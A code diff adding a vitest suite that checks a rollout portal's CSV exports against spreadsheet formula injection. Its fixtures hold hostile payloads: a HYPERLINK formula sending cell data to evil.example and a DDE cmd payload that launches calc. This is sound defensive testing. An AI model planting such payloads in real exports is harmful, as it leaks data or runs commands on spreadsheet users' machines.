@@ -1,7 +1,8 @@
+import { parse } from "csv-parse/sync";
 import ICAL from "ical.js";
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import { seedSampleRollout } from "@/prisma/seed";
-import { createUser } from "./helpers/factories";
+import { createRollout, createUser } from "./helpers/factories";
 import { sessionCookie, setRequest } from "./helpers/request-context";
 import { createTestDb, type TestDb } from "./helpers/test-db";
 
@@ -69,6 +70,76 @@ describe("CSV exports", () => {
     expect(lines).toHaveLength(2);
     // The comment holds a comma and a semicolon: the cell is quoted, not split.
     expect(lines[1]).toMatch(/^1 Production Deployment,GO_NO_GO,Go\/No-go decision,.*,REJECTED,.*"REJECT by .* \(EXECUTIVE\) at .*: Staging, not green; retry Friday"$/);
+  });
+});
+
+describe("CSV formula injection", () => {
+  // OWASP: a cell starting with =, +, -, @, TAB or CR is run as a formula by spreadsheet
+  // programs; each such cell must come out prefixed with a single quote, as plain text.
+  const attack = {
+    evidence: '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+    naReason: "-2+3+cmd|' /C calc'!A0",
+    text: "+SUM(1,2)",
+    assignee: "@SUM(A1:A9)",
+    changedBy: "=1+1",
+    title: "\t=1+1",
+    reference: "\r=1+1",
+    currency: "=USD",
+    comment: "=HYPERLINK(\"http://evil.example\")",
+  };
+  const rows = (csv: string) => parse(csv.replace(/^\uFEFF/, ""), { columns: true }) as Record<string, string>[];
+
+  it("prefixes every user-text cell of the checklist and sign-off exports that starts a formula", async () => {
+    const rollout = await createRollout(t.db);
+    const phase = await t.db.phase.create({ data: { rolloutId: rollout.id, position: 1, name: "=Phase(1)" } });
+    const [ops, assignee] = [await createUser(t.db, { rolloutId: rollout.id, roles: ["OPS_MANAGER"] }), await createUser(t.db, { rolloutId: rollout.id, roles: ["OPS_MANAGER"] })];
+    await t.db.user.update({ where: { id: ops.id }, data: { name: attack.changedBy } });
+    await t.db.user.update({ where: { id: assignee.id }, data: { name: attack.assignee } });
+    const item = await t.db.checklistItem.create({ data: { rolloutId: rollout.id, phaseId: phase.id, list: "PHASE", position: 1, text: attack.text, ownerRole: "OPS_MANAGER", assigneeId: assignee.id } });
+    const skipped = await t.db.checklistItem.create({ data: { rolloutId: rollout.id, phaseId: phase.id, list: "PHASE", position: 2, text: "plain", ownerRole: "OPS_MANAGER" } });
+    // Evidence and the not-applicable reason arrive the way people write them: through the actions.
+    setRequest({ cookie: await sessionCookie(ops) });
+    const { updateItemStateAction, decideSignOffAction } = await import("@/lib/actions/workflows");
+    expect(await updateItemStateAction(undefined, form({ itemId: item.id, version: "1", state: "DONE", evidence: attack.evidence }))).toMatchObject({ ok: true });
+    expect(await updateItemStateAction(undefined, form({ itemId: skipped.id, version: "1", state: "NOT_APPLICABLE", reason: attack.naReason }))).toMatchObject({ ok: true });
+
+    const { GET: items } = await import("@/app/(portal)/r/[slug]/export/items/route");
+    const itemRows = rows(await (await items(new Request(`http://portal.test/r/${rollout.slug}/export/items`), { params: Promise.resolve({ slug: rollout.slug }) })).text());
+    const done = itemRows.find((r) => r.state === "DONE")!;
+    expect({ text: done.text, assignee: done.assignee, changed_by: done.changed_by, evidence: done.evidence }).toEqual({
+      text: `'${attack.text}`,
+      assignee: `'${attack.assignee}`,
+      changed_by: `'${attack.changedBy}`,
+      evidence: `'${attack.evidence}`,
+    });
+    expect(itemRows.find((r) => r.state === "NOT_APPLICABLE")!.not_applicable_reason).toBe(`'${attack.naReason}`);
+    // The phase cell starts with its number, so it is left as it is.
+    expect(done.phase).toBe("1 =Phase(1)");
+
+    const exec = await createUser(t.db, { rolloutId: rollout.id, roles: ["EXECUTIVE"] });
+    const signOff = await t.db.signOff.create({
+      data: { rolloutId: rollout.id, phaseId: phase.id, kind: "BUDGET", position: 1, title: attack.title, reference: attack.reference, amountCents: 150000n, currency: attack.currency, requiredRoles: ["EXECUTIVE"] },
+    });
+    setRequest({ cookie: await sessionCookie(exec) });
+    expect(await decideSignOffAction(undefined, form({ signOffId: signOff.id, value: "APPROVE", comment: attack.comment }))).toMatchObject({ ok: true });
+    const { GET: signOffs } = await import("@/app/(portal)/r/[slug]/export/sign-offs/route");
+    const [row] = rows(await (await signOffs(new Request(`http://portal.test/r/${rollout.slug}/export/sign-offs`), { params: Promise.resolve({ slug: rollout.slug }) })).text());
+    expect({ title: row.title, reference: row.reference, currency: row.currency, amount: row.amount }).toEqual({
+      title: `'${attack.title}`,
+      reference: `'${attack.reference}`,
+      currency: `'${attack.currency}`,
+      amount: "1500.00",
+    });
+    // The decisions cell starts with the decision, the comment inside it is text.
+    expect(row.decisions).toMatch(/^APPROVE by /);
+    expect(row.decisions.endsWith(`: ${attack.comment}`)).toBe(true);
+  });
+
+  it("leaves cells that start no formula as they were written", async () => {
+    const { itemsCsv } = await import("@/lib/export/csv");
+    const csv = itemsCsv([{ list: "IMMEDIATE", phase: null, text: "Deploy v2 - then verify", ownerRole: null, assignee: null, dueAt: null, optional: false, state: "OPEN", stateChangedBy: null, stateChangedAt: null, evidence: "a=b; see https://x.test/@me", notApplicableReason: null } as never]);
+    const [row] = rows(csv);
+    expect([row.text, row.evidence]).toEqual(["Deploy v2 - then verify", "a=b; see https://x.test/@me"]);
   });
 });
 
